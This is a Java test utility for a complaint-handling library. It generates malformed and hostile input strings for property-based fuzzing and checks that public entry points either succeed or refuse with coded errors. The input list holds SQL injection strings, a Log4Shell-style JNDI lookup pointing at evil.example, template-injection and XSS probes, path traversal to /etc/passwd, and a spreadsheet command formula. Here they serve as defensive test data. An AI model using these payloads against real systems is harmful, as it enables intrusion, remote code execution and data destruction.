package org.complaintkit.testkit;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.util.List;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;
import org.complaintkit.api.error.ComplaintKitException;
import org.complaintkit.api.error.Violation;

/** Hostile values, and the rule every public entry must keep with them. */
public final class Hostile {
    /** One megabyte of text. */
    public static final String MEGABYTE = "投诉".repeat(1 << 19);

    /** Texts chosen to break parsers, databases, templates, logs and terminals. */
    public static final List<String> NASTY = List.of(
            "\u0000", "a\u0007b", "line\u0085break", "\u001b[31mred", "\uD800", "x\uDC00y", "\uDBFF\uDFFF",
            "\u202Eevil.txt", "\u200F\u05D0\u05D1\u05D2", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
            "😀👨\u200D👩\u200D👧", "\uFEFFbom", "'; DROP TABLE ck_event; --", "\" OR 1=1 --", "Robert'); --",
            "${jndi:ldap://evil.example/x}", "{{7*7}}", "#{1+1}", "${customer.name}", "<script>alert(1)</script>",
            "%s%n%x%08x", "\\", "\\u0000", "\r\n\r\n", "CMP-0000", "null", "../../etc/passwd", "１２３４",
            "İıß", "\t", " leading", "trailing ", "a,b;c|d", "\"quoted\"", "=cmd|' /C calc'!A0", "-1",
            "99999999999999999999", "1e308", "NaN", "0x1F", "2026-02-30", "9999-12-31T23:59:59Z",
            "-999999999-01-01", "+1000000000-01-01");

    private static final Pattern CODE = Pattern.compile("CMP-\\d{4}");

    private Hostile() {
    }

    /** Any text: null, empty, blank, a megabyte, a nasty one, random Unicode (surrogates and controls too). */
    public static Arbitrary<String> text() {
        return Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.just((String) null)),
                Tuple.of(2, Arbitraries.just("")),
                Tuple.of(1, Arbitraries.of(" ", "   ", "\n")),
                Tuple.of(1, Arbitraries.just(MEGABYTE)),
                Tuple.of(6, Arbitraries.of(NASTY)),
                Tuple.of(4, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(4, Arbitraries.strings().withCharRange('A', 'Z').numeric().withChars('-', '_', '.')
                        .ofMinLength(1).ofMaxLength(20)),
                Tuple.of(2, Arbitraries.strings().withCharRange('\u4e00', '\u9fa5').ofMinLength(1).ofMaxLength(60)));
    }

    /** What an entry point did with one input. */
    public enum Verdict { ACCEPTED, REFUSED_WITH_CODE }

    /**
     * Runs one input through an entry point: it must either succeed or throw a ComplaintKitException listing at
     * least one violation, each with a stable code, in a message that does not echo a megabyte back; anything
     * else escaping is a defect.
     */
    public static Verdict judge(Runnable entry) {
        try {
            entry.run();
            return Verdict.ACCEPTED;
        } catch (ComplaintKitException e) {
            assertFalse(e.violations().isEmpty(), "a refusal lists its violations");
            for (Violation v : e.violations()) {
                assertTrue(CODE.matcher(v.code().code()).matches(), () -> "coded: " + v);
            }
            String message = e.getMessage();
            assertTrue(message.length() < 20_000, () -> "the message echoes its input: " + message.length() + " chars");
            return Verdict.REFUSED_WITH_CODE;
        } catch (RuntimeException | Error e) {
            fail("an untyped " + e.getClass().getName() + " escaped: " + e.getMessage(), e);
            return null;
        }
    }
}
